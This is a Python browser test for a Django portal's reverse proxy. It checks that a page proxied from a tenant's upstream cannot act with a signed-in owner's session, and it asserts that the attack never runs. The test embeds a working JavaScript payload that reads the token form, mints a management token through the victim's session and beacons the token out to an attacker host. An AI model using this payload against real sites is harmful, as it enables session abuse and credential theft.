"""A tenant's upstream serves a page whose script would act as the portal: in a real browser (Debian's
chromium) a signed-in owner opens it through the proxy, on the portal's own origin, and nothing happens.

Without the proxy's `Content-Security-Policy: sandbox` the script runs with the owner's session: it reads
the management-token form, posts it and mints a token (the attack the security review carried out).
"""

import pytest
from django.contrib.auth import get_user_model
from django.test import Client

from keys import services
from keys.models import ManagementToken
from portal.tests.browser import browser_page, needs_chromium, session_state
from proxy.tests.raw_upstream import RawUpstream, http_answer

pytestmark = [needs_chromium, pytest.mark.django_db(transaction=True)]

# The attacker's page: mint a management token through the victim's portal session, then report.
ATTACK = """<!doctype html><html><body><p id="bait">Nothing to see</p><script>
(async () => {
  const report = (what) => { new Image().src = "BEACON/beacon?" + encodeURIComponent(what); };
  report("ran");
  const form_page = await (await fetch("/portal/tokens/new", {credentials: "include"})).text();
  const parsed = new DOMParser().parseFromString(form_page, "text/html");
  const form = parsed.querySelector("form[method=post] input[name=once]").form;
  const fields = new URLSearchParams();
  for (const input of form.querySelectorAll("input")) fields.append(input.name, input.value);
  fields.set("name", "stolen");
  const posted = {method: "POST", body: fields, credentials: "include"};
  const minted = await (await fetch("/portal/tokens/new", posted)).text();
  report("minted " + (minted.match(/mt_[0-9A-Za-z]+/) || ["nothing"])[0]);
})().catch((error) => { new Image().src = "BEACON/beacon?" + encodeURIComponent("failed " + error); });
</script></body></html>"""


def test_a_proxied_page_cannot_act_as_the_signed_in_portal_user(site, tenant):
    owner = get_user_model().objects.get(email="owner@acme.example")
    owner.set_password("owner-password-1")
    owner.save()
    with RawUpstream(b"") as attacker:
        page = ATTACK.replace("BEACON", attacker.url).encode()
        attacker.answer = http_answer(
            "HTTP/1.1 200 OK", [("Content-Type", "text/html"), ("Content-Length", str(len(page)))], page
        )
        upstream = services.upstream_create(
            tenant=None,
            slug="attacker",
            base_url=attacker.url,
            allow_private_network=True,
            actor="test",
            actor_is_staff=True,
        )
        key, _ = services.api_key_create(tenant=tenant, name="bait", upstreams=[upstream], actor="test")
        browser_client = Client()
        browser_client.force_login(owner)
        session_key = browser_client.session.session_key
        assert session_key is not None  # force_login saved the session
        state = session_state(site.url, session_key)

        with browser_page(storage_state=state) as browser:
            browser.goto(f"{site.url}/portal/keys")  # signed in: the session is live
            assert "/portal/login" not in browser.url
            browser.goto(f"{site.url}/proxy/attacker/{key.key_id}/page")
            assert browser.locator("#bait").inner_text() == "Nothing to see"  # the page itself arrived
            browser.wait_for_timeout(1500)  # what the script would need to run, mint and report
        beacons = [head for head in attacker.requests if head.startswith(b"GET /beacon")]

    assert beacons == []  # the script never ran
    assert not ManagementToken.objects.filter(tenant=tenant, name="stolen").exists()
